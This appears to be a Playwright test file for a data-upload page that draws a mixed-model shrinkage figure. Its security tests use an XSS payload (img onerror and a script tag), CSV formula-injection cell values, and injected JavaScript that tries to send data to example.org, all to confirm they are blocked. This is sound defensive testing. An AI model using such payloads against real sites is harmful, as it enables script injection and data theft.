"""The page "Your data": every way in, every kind of bad table, and nothing that leaves."""

import csv
import io

import pytest

from tests.browser import violations, wake, wake_navigation, watch

pytestmark = pytest.mark.needs("your-data.md")

RESULTS = "#yd-results:not([hidden])"
HOSTILE = '<img src=x onerror="window.owned = 1"><script>window.owned = 1</script>'
ALLOWED = ("data:", "blob:")


def rows(n: int = 60, name=lambda c: f"c{c}", header: str = "y,x,g") -> str:
    """Write a table in clusters of five."""
    lines = [f"{(i * 7919 % 101) / 10},{i % 5},{name(i // 5)}" for i in range(n)]
    return "\n".join([header, *lines]) + "\n"


@pytest.fixture
def bring(page, site):
    """Open the page, and give what pastes a text into it and waits for the answer."""
    page.emulate_media(reduced_motion="reduce")
    page.set_default_timeout(20_000)
    page.goto(f"{site}your-data/")
    wake(page)
    page.locator("#yd-bring[data-ready]").wait_for()

    def paste(text: str, *, good: bool = True) -> str:
        page.locator("#yd-text").fill(text)
        page.get_by_role("button", name="Read this text").click()
        if good:
            page.locator(RESULTS).wait_for()
            return page.locator(".yd-said").inner_text()
        page.locator(".yd-problem:not(:empty)").wait_for()
        return page.locator(".yd-problem").inner_text()

    return paste


def draw(page):
    """Bring the figure into view and wait until it is drawn."""
    page.locator("#yd-live .shrinkage-main").scroll_into_view_if_needed()
    page.locator("#yd-live .is-drawn").wait_for()
    return page.locator("#yd-live")


@pytest.mark.parametrize(
    ("example", "name", "slope", "x", "y"),
    [
        ("sleepstudy", "310", "10.467", "Days", "Reaction"),
        ("radon", "REDWOOD", "-0.68", "floor", "log_radon"),
    ],
)
@pytest.mark.usefixtures("bring")
def test_an_example_is_one_click_away(page, example, name, slope, x, y):
    wrong = watch(page)
    page.locator(f"[data-file='{example}.csv']").click()
    page.locator(RESULTS).wait_for()
    assert slope in page.locator(".yd-print").inner_text()
    figure = draw(page)
    figure.locator(".shrinkage-examples button").first.click()
    panel = figure.locator(".shrinkage-panel")
    panel.locator("svg").wait_for()
    assert panel.locator(".shrinkage-title").inner_text() == f"Cluster {name}"
    assert panel.locator("circle").count() > 0
    assert figure.locator(".g-ytitle, .annotation").get_by_text(f"slope of {x}").count() == 1
    assert {x, y} <= set(panel.locator("svg text").all_text_contents())
    figure.locator(".shrinkage-table summary").click()
    assert "true" not in figure.locator(".shrinkage-estimates thead").last.inner_text()
    assert wrong == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_accessible_with_results(page, bring, scheme):
    page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    page.wait_for_timeout(500)
    assert violations(page) == []
    assert "60 rows in 12 clusters" in bring(rows())
    draw(page)
    for summary in page.locator("#yd-columns summary, #yd-results summary").all():
        summary.click()
    page.locator("#yd-live .shrinkage-examples button").first.click()
    page.locator(".shrinkage-panel svg").wait_for()
    page.wait_for_timeout(300)
    assert violations(page) == []
    page.locator("select[name=x]").select_option("2")
    page.locator(".yd-problem:not(:empty)").wait_for()
    assert violations(page) == []


def test_jumps_within_the_page_keep_the_readers_table(page, bring):
    wrong = watch(page)
    bring(rows(name=lambda c: f"mine{c}"))
    page.get_by_role("link", name="See them move").click()
    page.locator(".md-sidebar--secondary").get_by_role("link", name="Good to know").click()
    page.wait_for_url("**#good-to-know")
    page.go_back()
    page.wait_for_timeout(500)
    assert page.locator(RESULTS).count() == 1
    assert "mine0" in page.locator("#yd-text").input_value()
    assert wrong == []


def test_an_example_that_was_cancelled_does_not_come_after_all(page, bring):
    waiting = []
    page.route("**/data/sleepstudy.csv", lambda route: waiting.append(route))
    page.locator("[data-file='sleepstudy.csv']").click()
    page.locator("[data-do=cancel]").click()
    assert "Cancelled" in page.locator(".yd-said").inner_text()
    bring(rows())
    for route in waiting:
        route.continue_()
    page.wait_for_timeout(500)
    assert "60 rows in 12 clusters" in page.locator(".yd-said").inner_text()


def test_nothing_leaves(page, site, bring):
    """Even a script that wants to send something cannot."""
    asked = []
    page.context.on("request", lambda request: asked.append(request))
    bring(rows(name=lambda c: f"secret{c}"))
    draw(page)
    page.locator("[data-do=download]").click()
    assert [r.url for r in asked if not r.url.startswith((site, *ALLOWED))] == []
    assert all(r.method == "GET" and not r.post_data for r in asked)
    assert not [r.url for r in asked if "secret" in r.url]
    tried = page.evaluate(
        """async () => {
          const blocked = [];
          const note = (event) => blocked.push(event.effectiveDirective);
          document.addEventListener("securitypolicyviolation", note);
          await fetch("https://example.org/?d=1").catch(() => {});
          navigator.sendBeacon("https://example.org/", "1");
          const image = new Image();
          image.src = "https://example.org/1.png";
          const form = document.createElement("form");
          form.action = "https://example.org/";
          document.body.append(form);
          form.submit();
          const markup = '<img src="data:," onerror="window.owned = 1">';
          document.body.insertAdjacentHTML("beforeend", markup);
          await new Promise((resolve) => setTimeout(resolve, 500));
          return blocked;
        }"""
    )
    assert {"connect-src", "img-src", "form-action", "script-src-attr"} <= set(tried)
    assert page.evaluate("window.owned") is None
    sent = [r for r in asked if "example.org" in r.url and "csp" not in (r.failure or "")]
    assert sent == [], [r.failure for r in sent]


@pytest.mark.needs("summary.md", "glossary.md")
def test_the_policy_holds_after_instant_navigation(page, site):
    page.goto(f"{site}summary/")
    wake_navigation(page)
    page.evaluate("window.stayed = 1")
    page.locator(".md-nav a[href$='your-data/']").first.click()
    page.locator("#yd-bring").wait_for()
    page.locator("[data-file='sleepstudy.csv']").click()
    page.locator(RESULTS).wait_for()
    assert page.evaluate("window.stayed") == 1, "the page was loaded in full"
    assert page.evaluate("fetch('https://example.org/').then(() => 1, () => 0)") == 0
    workers = [w for w in page.workers if "your_data" in w.url]
    assert len(workers) == 1
    sends = workers[0].evaluate("[typeof fetch, typeof XMLHttpRequest, typeof WebSocket]")
    assert sends == ["undefined"] * 3
    with workers[0].expect_event("close"):  # the worker goes with its page
        page.locator(".md-nav a[href$='glossary/']").first.click()


def test_names_cannot_run_code(page, bring):
    wrong = watch(page)
    names = [
        HOSTILE,
        "=HYPERLINK(1)",
        "+1",
        "-a",
        "@x",
        "__proto__",
        '"',
        "&amp;",
        "a\tb",
        "'",
        "\u202eabc",
        "<b>",
    ]

    def quote(text):
        return '"' + text.replace('"', '""') + '"'

    text = rows(
        name=lambda c: quote(names[c]),
        header=f"{quote(HOSTILE)},{quote('<b>x</b>')},{quote('<u>g</u>')}",
    )
    bring(text)
    figure = draw(page)
    figure.locator(".shrinkage-table summary").click()
    figure.locator(".shrinkage-estimates tbody button").first.wait_for()
    for button in figure.locator(".shrinkage-estimates tbody button").all():
        button.click()
        figure.locator(".shrinkage-panel svg").wait_for()
        page.wait_for_timeout(60)
    shown = figure.locator(".shrinkage-estimates tbody th").all_inner_texts()
    assert HOSTILE in shown
    assert figure.get_by_text("slope of <b>x</b>").count() == 1
    assert "its “<b>x</b>” spread" in figure.locator(".shrinkage-panel").inner_text()
    assert page.evaluate("window.owned") is None
    assert page.locator(".md-content :is(img, script):not(.md-content__button *)").count() == 0
    with page.expect_download() as waiting:
        page.locator("[data-do=download]").click()
    found = waiting.value.path().read_text(encoding="utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(found))]
    assert {"'=HYPERLINK(1)", "'+1", "'-a", "'@x", HOSTILE} <= set(cells)
    for code in ("[data-language=r]", "[data-language=python]"):
        page.locator(code).evaluate("e => (e.closest('details').open = true)")
        assert "window.owned" in page.locator(code).inner_text()
    assert wrong == []


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "nothing in it"),
        ("a,b\n1,2\n", "2 columns"),
        ("y,x,g\n1,2,a\n1,2\n", "Row 3 has 2 cells"),
        (rows().replace("\n0.0,", "\nabc,"), "is not a number"),
        (rows(name=lambda _: "one"), "holds one cluster"),
        (f"y,x,g\n1,2,a\n1,{HOSTILE},a\n", "Column “x”, row 3"),
        ("x," * 2000 + "x\n", "2,001 columns"),
    ],
    ids=["empty", "two columns", "ragged", "text", "one cluster", "script", "wide"],
)
def test_a_problem_loses_nothing_that_was_typed(page, bring, text, said):
    if "one cluster" not in said and "number" not in said and "Column" not in said:
        assert said in bring(text, good=False)
    else:
        page.locator("#yd-text").fill(text)
        page.get_by_role("button", name="Read this text").click()
        page.locator("#yd-columns").wait_for()
        for role, column in (("y", "0"), ("x", "1"), ("cluster", "2")):
            page.locator(f"select[name={role}]").select_option(column)
        page.locator(".yd-problem", has_text=said).wait_for()
    assert page.locator("#yd-text").input_value() == text
    assert page.locator(RESULTS).count() == 0
    assert page.evaluate("window.owned") is None
    assert "60 rows" in bring(rows())
    assert page.locator(".yd-problem").inner_text() == ""


def test_missing_cells_are_named_and_can_be_left_out(page, bring):
    text = rows().replace("\n0.0,", "\n,")
    assert "Column “y”, row" in bring(text, good=False)
    assert "of 60 rows" in page.locator(".yd-missing").inner_text()
    page.locator("input[name=leaveOut]").check()
    page.locator(RESULTS).wait_for()
    assert "left out" in page.locator(".yd-said").inner_text()
    assert "dropna" in page.locator("[data-language=python]").text_content()


def test_choices_stay_when_the_text_is_corrected(page, bring):
    bring(rows())
    page.locator("input[name=centre]").check()
    page.locator("select[name=y]").select_option("1")
    page.locator("select[name=x]").select_option("0")
    page.locator(".yd-print", has_text="x ~ [y, centred]").wait_for()
    bring("y,x,g\n1,2\n", good=False)
    bring(rows(80))
    page.locator(".yd-print", has_text="x ~ [y, centred]").wait_for()


@pytest.mark.usefixtures("bring")
def test_a_file_with_semicolons_and_decimal_commas(page, tmp_path):
    file = tmp_path / "tabelle.csv"
    text = rows().replace(",", ";").replace(".", ",").replace("c0", "Zürich")
    file.write_bytes(b"\xef\xbb\xbf" + text.encode())
    page.locator("#yd-file").set_input_files(file)
    page.locator(RESULTS).wait_for()
    assert "tabelle.csv" in page.locator(".yd-said").inner_text()
    assert 'dec = ","' in page.locator("[data-language=r]").text_content()
    binary = tmp_path / "table.xlsx"
    binary.write_bytes(b"PK\x03\x04" + bytes(200))
    page.locator("#yd-file").set_input_files(binary)
    page.locator(".yd-problem", has_text="workbook").wait_for()
    assert page.locator(".yd-problem").evaluate("e => e.getAttribute('role')") == "alert"


@pytest.mark.usefixtures("bring")
def test_a_file_can_be_dropped_anywhere(page):
    page.evaluate(
        """(text) => {
          const data = new DataTransfer();
          data.items.add(new File([text], "dropped.csv"));
          const options = { dataTransfer: data, bubbles: true, cancelable: true };
          for (const kind of ["dragover", "drop"])
            document.body.dispatchEvent(new DragEvent(kind, options));
        }""",
        rows(),
    )
    page.locator(RESULTS).wait_for()
    assert "dropped.csv" in page.locator(".yd-said").inner_text()


def test_what_is_brought_before_any_script_is_read(page, site):
    page.goto(f"{site}your-data/")
    page.evaluate("(text) => (document.getElementById('yd-text').value = text)", rows())
    wake(page)
    page.locator(RESULTS).wait_for()


@pytest.mark.usefixtures("bring")
def test_a_million_rows(page, tmp_path):
    """Without a frozen page: what the page itself does never takes a second."""
    file = tmp_path / "million.csv"
    with file.open("w") as out:
        out.write("y,x,g\n")
        for c in range(100_000):
            out.writelines(
                f"{(c * 31 + i * 7919) % 1009 / 10 + c % 9},{i},p{c}\n" for i in range(10)
            )
    page.evaluate(
        """() => {
          window.longest = 0;
          new PerformanceObserver((list) => {
            const durations = list.getEntries().map(({ duration }) => duration);
            window.longest = Math.max(window.longest, ...durations);
          }).observe({ type: "longtask" });
        }"""
    )
    page.locator("#yd-file").set_input_files(file)
    page.locator(".yd-busy:not([hidden])").wait_for()
    page.get_by_role("button", name="Cancel").click()
    assert "Cancelled" in page.locator(".yd-said").inner_text()
    page.locator("#yd-file").set_input_files([])
    before = page.evaluate("performance.now()")
    page.locator("#yd-file").set_input_files(file)
    page.locator(RESULTS).wait_for(timeout=60_000)
    seconds = (page.evaluate("performance.now()") - before) / 1000
    page.wait_for_timeout(200)
    frozen = page.evaluate("longest")
    assert "1,000,000 rows in 100,000 clusters" in page.locator(".yd-said").inner_text()
    figure = draw(page)
    drawn = page.evaluate("longest")
    print(f"a million rows: {seconds:.1f} s; longest task {frozen:.0f} ms, drawing {drawn:.0f} ms")
    assert "500 of 100,000 clusters" in figure.locator("figcaption").inner_text()
    assert frozen < 1000
